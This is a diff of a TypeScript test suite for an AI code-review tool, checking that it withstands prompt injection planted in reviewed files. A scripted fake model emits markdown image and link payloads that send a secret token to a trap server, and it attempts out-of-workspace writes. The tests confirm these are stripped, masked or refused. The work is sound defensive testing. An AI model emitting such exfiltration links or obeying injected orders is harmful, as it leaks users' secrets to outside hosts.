@@ -33,9 +33,10 @@ function outsideFences(text: string): string {
   return text.replace(/<data-([0-9a-f]+) from="[^"\n]*">\n[\s\S]*?\n<\/data-\1>/g, '');
 }
 
+/** What a model is told and shown; its own turns are what it said itself. */
 function textsOf({ body }: RecordedCall): string[] {
-  const { system = [], messages = [] } = body as { system?: { text: string }[]; messages?: { content: string | { text?: string; content?: string }[] }[] };
-  return [...system.map(({ text }) => text), ...messages.flatMap(({ content }) => (typeof content === 'string' ? [content] : content.map((block) => block.text ?? block.content ?? '')))];
+  const { system = [], messages = [] } = body as { system?: { text: string }[]; messages?: { role: string; content: string | { text?: string; content?: string }[] }[] };
+  return [...system.map(({ text }) => text), ...messages.filter(({ role }) => role === 'user').flatMap(({ content }) => (typeof content === 'string' ? [content] : content.map((block) => block.text ?? block.content ?? '')))];
 }
 
 /**
@@ -46,7 +47,7 @@ function obey(call: RecordedCall, trap: string): ScriptedAnswer {
   const text = textsOf(call).join('\n');
   const name = /You are the (\w+)/.exec(text)?.[1];
   const files = [...text.matchAll(/from="([^"]+?)_ (?:added|modified|untracked)">/g)].map((match) => match[1]!);
-  const say = `Done. ![pixel](${trap}/pixel?k=${token}) [details](${trap}/details) <img src="${trap}/img"> see ${trap}/bare and www.127.0.0.1/x`;
+  const say = `Done. ![pixel](${trap}/pixel?k=__MASKED_SECRET_1__) the key is __MASKED_SECRET_1__ [details](${trap}/details) <img src="${trap}/img"> see ${trap}/bare and www.127.0.0.1/x`;
   const finding = (file: string, quote: string): object => ({ file, line: 3, quote, severity: 'error', confidence: 0.9, message: say, why: [say, `[r]: ${trap}/ref`] });
   switch (name) {
     case 'style':
@@ -79,10 +80,10 @@ describe('Orders hidden from people and meant for a model', function () {
   const trapped: string[] = [];
   let json: ReviewJson;
   let plain: ReviewJson;
-  let before: Record<string, string>;
+  let filesBefore: Record<string, string>;
   const outputs: CommandResult[] = [];
 
-  before_(async () => {
+  before(async () => {
     trapServer = createServer((request, response) => {
       trapped.push(request.url ?? '');
       response.end();
@@ -96,7 +97,7 @@ describe('Orders hidden from people and meant for a model', function () {
     mkdirSync(path.join(home.folder, 'roundtable'), { recursive: true });
     model = await startAnthropicServer((call) => obey(call, trap));
     const run = (...args: string[]): Promise<CommandResult> => roundtable(['review', '--fail-on', 'never', ...args], { cwd: workspace.folder, home: home.folder, env: { ANTHROPIC_API_KEY: 'key-of-a-test', ANTHROPIC_BASE_URL: model.url } });
-    before = snapshot(workspace.folder);
+    filesBefore = snapshot(workspace.folder);
     plain = JSON.parse((await run('--format', 'json')).stdout) as ReviewJson;
     for (const format of ['json', 'markdown', 'sarif', 'pretty']) outputs.push(await run('--format', format, '--model', 'anthropic/claude-taken-over'));
     json = JSON.parse(outputs[0]!.stdout) as ReviewJson;
@@ -142,7 +143,7 @@ describe('Orders hidden from people and meant for a model', function () {
   });
 
   it('writes nothing into the workspace, beside it or into git', () => {
-    assert.deepEqual(snapshot(workspace.folder), before);
+    assert.deepEqual(snapshot(workspace.folder), filesBefore);
     assert.deepEqual(readdirSync(home.folder).filter((name) => name !== 'roundtable'), []);
     assert.throws(() => readFileSync(path.join(path.dirname(workspace.folder), 'leak.txt')));
   });
@@ -152,7 +153,7 @@ describe('Orders hidden from people and meant for a model', function () {
     for (const { id, rule, file } of plain.findings) assert.ok(ids.has(id), `${rule} in ${file}`);
     const open = (review: ReviewJson): string[] => review.findings.filter(({ rule, shown }) => shown && !rule.endsWith('/judgement') && rule !== 'security/instruction-in-text').map(({ id }) => id).sort();
     assert.deepEqual(open(json).filter((id) => open(plain).includes(id)).length > 0, true);
-    assert.equal(json.findings.every(({ file }) => file in before), true);
+    assert.equal(json.findings.every(({ file }) => file in filesBefore), true);
     assert.equal(json.dropped.some(({ why }) => why.includes('approved by the security team')), false, 'a refutation that quotes what is not on its line counts for nothing');
   });
 
@@ -161,9 +162,10 @@ describe('Orders hidden from people and meant for a model', function () {
     assert.ok(judged.length > 0, 'some of what it says is shown, so that this means something');
     for (const { message, evidence } of judged) {
       assert.doesNotMatch(JSON.stringify([message, evidence]), /\]\(|<img|https?:\/\/|www\./);
-      assert.match(message, /pixel details ‹img src="\(an address at 127\[\.\]0\[\.\]0\[\.\]1\)"/);
+      assert.match(message, /pixel the key is ••• details ‹img src="\(an address at 127\[\.\]0\[\.\]0\[\.\]1\)"/);
     }
     for (const { stdout, stderr } of outputs) assert.equal(`${stdout}${stderr}`.includes(trap), false);
+    for (const { stdout } of outputs) assert.equal(stdout.includes(token), false, 'a placeholder in words is not restored');
     assert.doesNotMatch(outputs[1]!.stdout, /!\[|<img/);
   });
 
@@ -201,7 +203,6 @@ describe('Orders hidden from people and meant for a model', function () {
         assert.deepEqual(done, ['a.js']);
         const last = JSON.stringify(server.calls.at(-1)!.body);
         for (const refusal of [/There is no tool of this name/, /outside the workspace/, /do not fit/, /no permission to workspace\.write/]) assert.match(last, refusal);
-        assert.equal(last.includes(token), true, 'what a model writes itself is told back to it as it wrote it');
         for (const call of server.calls) {
           const told = outsideFences(textsOf(call).join('\n'));
           for (const line of filled.split('\n').filter((part) => part.trim().length > 8)) assert.equal(told.includes(line.trim()), false, line);
@@ -214,8 +215,3 @@ describe('Orders hidden from people and meant for a model', function () {
     });
   }
 });
-
-/** `before`, where a variable of the suite has its name. */
-function before_(work: () => Promise<void>): void {
-  before(work);
-}
